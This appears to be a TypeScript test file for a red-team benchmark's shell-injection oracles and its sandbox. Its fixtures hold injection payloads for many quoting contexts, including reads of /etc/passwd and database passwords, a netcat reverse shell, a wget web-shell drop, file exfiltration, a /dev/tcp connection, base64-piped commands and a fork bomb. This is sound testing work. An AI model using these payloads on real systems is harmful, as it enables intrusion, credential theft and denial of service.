import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { describe, test } from 'node:test';
import { missingTools } from '../../bench/lib/installed.ts';
import { shellGrammar } from '../../bench/redteam/grammar/shell.ts';
import type { Quoting } from '../../bench/redteam/oracle/shell/contexts.ts';
import {
  bash,
  busyboxAsh,
  dash,
  type ShellOracle,
  zsh,
} from '../../bench/redteam/oracle/shell/shells.ts';
import { markRewriters } from '../../bench/redteam/rewrite/shell/commands.ts';
import { shellRewriters } from '../../bench/redteam/rewrite/shell/rewriters.ts';
import { requireInstalled } from '../support/require-tool.ts';
import { testOracle, testRewriters } from './laws.ts';

const known: Readonly<Record<Quoting, readonly string[]>> = {
  none: ['x; cat /etc/passwd', 'x|whoami', '$(id)', 'x;echo $DB_PASSWORD', 'x;echo 1>x.php'],
  single: ["x'; sleep 5 #", "'$(id)'", "'|id|'"],
  double: ['$(sleep 5)', '`id`', '";id;"', '$DB_PASSWORD'],
  document: ['$(id)', '`wget x`', 'x\nEOF\nid\n'],
  'raw document': ['x\nEOF\nnc 10.0.0.1 4444 -e sh\n'],
  substitution: ['x;id', '$(id)'],
  backticks: ['x;id', 'x|ls -la'],
  arithmetic: ['1)); id; echo $((1', '$(id)'],
  'double > substitution > double': ['$(id)', '";id;"'],
  'double > none': ['x;id', '$(id)', '";id;"'],
  'double > single': ["';id;'", '$(id)'],
  'double > single > none': ['x;id', '$(id)'],
  'single > single': ['x;id', "';id;'"],
};

/** Of one place alone. */
const special: Readonly<Record<string, readonly string[]>> = {
  'whole argument, unquoted': ['-o /var/www/app/x.php http://10.0.0.1/x'],
  'whole argument, double quotes': ['--post-file=/etc/passwd'],
  'words of a loop': ['$(id)', 'x; do id; done; for f in y'],
};

const exploits = ({ contexts }: ShellOracle): Record<string, string[][]> =>
  Object.fromEntries(
    contexts.map(({ name, quoting }) => [
      name,
      [...(special[name] ?? []), ...(name === 'words of a loop' ? [] : known[quoting])].map(
        (value) => [value],
      ),
    ]),
  );

// Each waits for its shell most of the time.
describe('shells', { concurrency: 4 }, () => {
  for (const shell of [dash, bash, busyboxAsh, zsh]) testOracle(shell, exploits(shell));
});

// Bash knows what all of them need; the others have the grammar and what is the same everywhere.
testRewriters(bash, shellGrammar, shellRewriters);
for (const shell of [dash, busyboxAsh, zsh]) testRewriters(shell, shellGrammar, markRewriters);

test('a jail: each judgement begins anew, nothing gets out, nothing hangs', async (t) => {
  if (!requireInstalled(t, bash.tools.join(', '), missingTools(bash).length === 0)) return;
  const running = await bash.start();
  const [context] = bash.contexts;
  assert.ok(context);
  const judge = (value: string) => running.judge(context, [value]);
  try {
    assert.equal(await judge('x; while :; do :; done'), 'error');
    assert.notEqual(await judge('x; f() { f | f & }; f'), 'effective', 'forks end');
    assert.equal(await judge('x; echo 1 > /tmp/sallyport-jail-canary'), 'effective');
    assert.equal(existsSync('/tmp/sallyport-jail-canary'), false, 'a file of this machine');
    assert.equal(await judge('x; test -e /tmp/sallyport-jail-canary && id'), 'inert', 'kept');
    assert.equal(await judge('x; echo > /usr/bin/id; /bin/true'), 'inert', 'read-only');
    assert.equal(await judge('x; busybox mount -o remount,rw / && id'), 'inert', 'mounts');
    assert.equal(await judge('x; busybox unshare -U true && id'), 'inert', 'namespaces');
    assert.equal(await judge('x; exec 3<>/dev/tcp/203.0.113.9/443'), 'effective', 'network');
    assert.equal(await judge('x; echo aWQ=|base64 -d|sh'), 'effective', 'decoded');
    assert.equal(await judge('x; echo aXg=|base64 -d|sh'), 'inert', 'decoded to nothing');
    assert.equal(await judge('x; no-such-program'), 'inert');
    assert.equal(await judge('\0'), 'error');
    assert.equal(await judge(';'.repeat(200_000)), 'error');
    assert.equal(await judge('example.com'), 'inert');
  } finally {
    await running.close();
  }
});
